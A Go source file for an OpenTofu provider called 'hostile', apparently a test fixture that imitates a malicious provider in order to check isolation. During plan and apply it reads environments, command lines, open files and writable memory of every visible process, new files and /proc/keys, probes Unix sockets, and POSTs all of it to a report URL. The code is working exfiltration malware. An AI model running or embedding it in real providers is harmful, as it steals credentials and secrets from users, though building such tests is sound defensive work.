// A provider that does what a hostile one would: while tofu plans and while it applies it looks at everything that it
// can reach and sends it away, to an address of the test's own.
//
// It also fetches an address as any provider would that pulls from a registry: by the proxy and with the authorities of its
// environment.
//
// Looked at: its own environment; of every process that `/proc` shows its environment, arguments, memory map, open
// files, and memory; every file below the places that it is told; every Unix socket that can be connected to. Files and
// sockets that are older than the test have nothing of it, and are left alone. A line per place says whether that could
// be read, so that a test sees that the looking was real.
package main

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"io/fs"
	"log"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/hashicorp/terraform-plugin-framework/datasource"
	"github.com/hashicorp/terraform-plugin-framework/provider"
	"github.com/hashicorp/terraform-plugin-framework/providerserver"
	"github.com/hashicorp/terraform-plugin-framework/resource"
	"github.com/hashicorp/terraform-plugin-framework/resource/schema"
	"github.com/hashicorp/terraform-plugin-framework/resource/schema/planmodifier"
	"github.com/hashicorp/terraform-plugin-framework/resource/schema/stringplanmodifier"
	"github.com/hashicorp/terraform-plugin-framework/tfsdk"
	"github.com/hashicorp/terraform-plugin-framework/types"
)

const (
	mostOfFile    = 8 << 20
	mostOfProcess = 128 << 20
)

func main() {
	options := providerserver.ServeOpts{Address: "registry.opentofu.org/nigari/hostile"}
	if err := providerserver.Serve(context.Background(), func() provider.Provider { return hostile{} }, options); err != nil {
		log.Fatal(err)
	}
}

type hostile struct{}

func (hostile) Metadata(_ context.Context, _ provider.MetadataRequest, answer *provider.MetadataResponse) {
	answer.TypeName = "hostile"
}
func (hostile) Schema(context.Context, provider.SchemaRequest, *provider.SchemaResponse)          {}
func (hostile) Configure(context.Context, provider.ConfigureRequest, *provider.ConfigureResponse) {}
func (hostile) DataSources(context.Context) []func() datasource.DataSource                        { return nil }
func (hostile) Resources(context.Context) []func() resource.Resource {
	return []func() resource.Resource{func() resource.Resource { return look{} }}
}

// look is the resource: `report` is where to send, `places` what to walk, separated by colons, `since` when the test
// began, in seconds, `fetch` what to fetch.
type look struct{}

type model struct {
	Report types.String `tfsdk:"report"`
	Places types.String `tfsdk:"places"`
	Since  types.Int64  `tfsdk:"since"`
	Fetch  types.String `tfsdk:"fetch"`
	ID     types.String `tfsdk:"id"`
}

func (look) Metadata(_ context.Context, _ resource.MetadataRequest, answer *resource.MetadataResponse) {
	answer.TypeName = "hostile_look"
}

func (look) Schema(_ context.Context, _ resource.SchemaRequest, answer *resource.SchemaResponse) {
	keep := []planmodifier.String{stringplanmodifier.UseStateForUnknown()}
	answer.Schema = schema.Schema{Attributes: map[string]schema.Attribute{
		"report": schema.StringAttribute{Required: true},
		"places": schema.StringAttribute{Required: true},
		"since":  schema.Int64Attribute{Required: true},
		"fetch":  schema.StringAttribute{Optional: true},
		"id":     schema.StringAttribute{Computed: true, PlanModifiers: keep},
	}}
}

func (look) ModifyPlan(ctx context.Context, request resource.ModifyPlanRequest, answer *resource.ModifyPlanResponse) {
	var wanted model
	if request.Plan.Raw.IsNull() {
		return
	}
	answer.Diagnostics.Append(request.Plan.Get(ctx, &wanted)...)
	if err := report(wanted, "plan"); err != nil {
		answer.Diagnostics.AddError("the look at plan could not be reported", err.Error())
	}
}

func (look) Create(ctx context.Context, request resource.CreateRequest, answer *resource.CreateResponse) {
	var wanted model
	answer.Diagnostics.Append(request.Plan.Get(ctx, &wanted)...)
	if err := report(wanted, "apply"); err != nil {
		answer.Diagnostics.AddError("the look at apply could not be reported", err.Error())
	}
	wanted.ID = types.StringValue("looked")
	answer.Diagnostics.Append(answer.State.Set(ctx, wanted)...)
}

func (look) Read(_ context.Context, request resource.ReadRequest, answer *resource.ReadResponse) {
	answer.State = tfsdk.State(request.State)
}

func (look) Update(_ context.Context, request resource.UpdateRequest, answer *resource.UpdateResponse) {
	answer.State = tfsdk.State{Schema: request.Plan.Schema, Raw: request.Plan.Raw}
}
func (look) Delete(context.Context, resource.DeleteRequest, *resource.DeleteResponse) {}

// report streams everything to the test, so that nothing that was read stays here to be read again.
func report(wanted model, moment string) error {
	reader, writer := io.Pipe()
	go func() {
		out := bufio.NewWriterSize(writer, 1<<16)
		fmt.Fprintf(out, "\n=== moment %s uid %d\n", moment, os.Getuid())
		for _, entry := range os.Environ() {
			fmt.Fprintf(out, "own environment %s\n", entry)
		}
		for _, address := range strings.Fields(wanted.Fetch.ValueString()) {
			fetch(out, address)
		}
		processes(out)
		for _, place := range strings.Split(wanted.Places.ValueString(), ":") {
			walk(out, place, wanted.Since.ValueInt64())
		}
		sockets(out, wanted.Since.ValueInt64())
		fmt.Fprintf(out, "\n=== end of %s\n", moment)
		out.Flush()
		writer.Close()
	}()
	client := http.Client{Timeout: 5 * time.Minute, Transport: &http.Transport{Proxy: nil}}
	answer, err := client.Post(wanted.Report.ValueString(), "application/octet-stream", reader)
	if err != nil {
		return err
	}
	return answer.Body.Close()
}

func fetch(out io.Writer, address string) {
	request, err := http.NewRequest(http.MethodGet, address, nil)
	if err != nil {
		fmt.Fprintf(out, "\nfetch %s: %v\n", address, err)
		return
	}
	request.Header.Set("Accept", "application/vnd.oci.image.manifest.v1+json")
	answer, err := (&http.Client{Timeout: time.Minute}).Do(request)
	if err != nil {
		fmt.Fprintf(out, "\nfetch %s: %v\n", address, err)
		return
	}
	defer answer.Body.Close()
	fmt.Fprintf(out, "\nfetch %s: status %d\n%v\n", address, answer.StatusCode, answer.Header)
	_, _ = io.Copy(out, io.LimitReader(answer.Body, mostOfFile))
}

func processes(out io.Writer) {
	for _, list := range []string{"net/unix", "net/tcp", "net/tcp6", "sysvipc/shm", "sysvipc/msg", "keys"} {
		copyFile(out, "/proc/"+list)
	}
	entries, err := os.ReadDir("/proc")
	if err != nil {
		fmt.Fprintf(out, "\n/proc: %v\n", err)
	}
	for _, entry := range entries {
		pid, err := strconv.Atoi(entry.Name())
		if err != nil {
			continue
		}
		for _, what := range []string{"comm", "cmdline", "environ", "status", "maps", "mountinfo"} {
			copyFile(out, fmt.Sprintf("/proc/%d/%s", pid, what))
		}
		descriptors(out, pid)
		// Its own memory holds what it has just read elsewhere, and nothing besides.
		if pid != os.Getpid() {
			memory(out, pid)
		}
	}
}

func descriptors(out io.Writer, pid int) {
	directory := fmt.Sprintf("/proc/%d/fd", pid)
	entries, err := os.ReadDir(directory)
	if err != nil {
		fmt.Fprintf(out, "\nrefused %s: %v\n", directory, err)
		return
	}
	for _, entry := range entries {
		path := filepath.Join(directory, entry.Name())
		target, _ := os.Readlink(path)
		fmt.Fprintf(out, "\n%s -> %s\n", path, target)
		if info, err := os.Stat(path); err == nil && info.Mode().IsRegular() {
			copyFile(out, path)
		}
	}
}

func memory(out io.Writer, pid int) {
	path := fmt.Sprintf("/proc/%d/mem", pid)
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return
	}
	file, err := os.Open(path)
	if err != nil {
		fmt.Fprintf(out, "\nrefused %s: %v\n", path, err)
		return
	}
	defer file.Close()
	left := int64(mostOfProcess)
	for _, line := range strings.Split(string(maps), "\n") {
		var from, to int64
		var mode string
		if _, err := fmt.Sscanf(line, "%x-%x %s", &from, &to, &mode); err != nil || !strings.HasPrefix(mode, "rw") {
			continue
		}
		left -= copyUsed(out, io.NewSectionReader(file, from, to-from), left)
	}
	fmt.Fprintf(out, "\nread %s: %d bytes\n", path, mostOfProcess-left)
}

// isOlder says whether nothing of a file or a socket has changed since then.
func isOlder(path string, since int64) bool {
	var status syscall.Stat_t
	return syscall.Lstat(path, &status) == nil && status.Ctim.Sec < since
}

// copyUsed leaves out what was never written to, which is most of a Go program's memory; gives what it has copied.
func copyUsed(out io.Writer, memory io.Reader, most int64) int64 {
	var copied int64
	piece, unused := make([]byte, 64<<10), make([]byte, 64<<10)
	for copied < most {
		count, err := io.ReadFull(memory, piece)
		if !bytes.Equal(piece[:count], unused[:count]) {
			_, _ = out.Write(piece[:count])
			copied += int64(count)
		}
		if err != nil {
			break
		}
	}
	return copied
}

func walk(out io.Writer, place string, since int64) {
	_ = filepath.WalkDir(place, func(path string, entry fs.DirEntry, err error) error {
		if err != nil {
			fmt.Fprintf(out, "\nrefused %s: %v\n", path, err)
			return fs.SkipDir
		}
		if isOlder(path, since) {
			return nil
		}
		if entry.Type().IsRegular() {
			copyFile(out, path)
		} else {
			fmt.Fprintf(out, "\nseen %s %s\n", path, entry.Type())
		}
		return nil
	})
}

func copyFile(out io.Writer, path string) {
	file, err := os.Open(path)
	if err != nil {
		fmt.Fprintf(out, "\nrefused %s: %v\n", path, err)
		return
	}
	defer file.Close()
	fmt.Fprintf(out, "\nread %s\n", path)
	_, _ = io.Copy(out, io.LimitReader(file, mostOfFile))
}

// sockets tries every Unix socket that the kernel lists and that has a name.
func sockets(out io.Writer, since int64) {
	list, err := os.ReadFile("/proc/net/unix")
	if err != nil {
		fmt.Fprintf(out, "\nrefused /proc/net/unix: %v\n", err)
		return
	}
	for _, line := range strings.Split(string(list), "\n") {
		fields := strings.Fields(line)
		if len(fields) < 8 || isOlder(fields[7], since) {
			continue
		}
		connection, err := net.DialTimeout("unix", fields[7], time.Second)
		if err != nil {
			fmt.Fprintf(out, "\nrefused socket %s: %v\n", fields[7], err)
			continue
		}
		fmt.Fprintf(out, "\nconnected to socket %s\n", fields[7])
		connection.Close()
	}
}
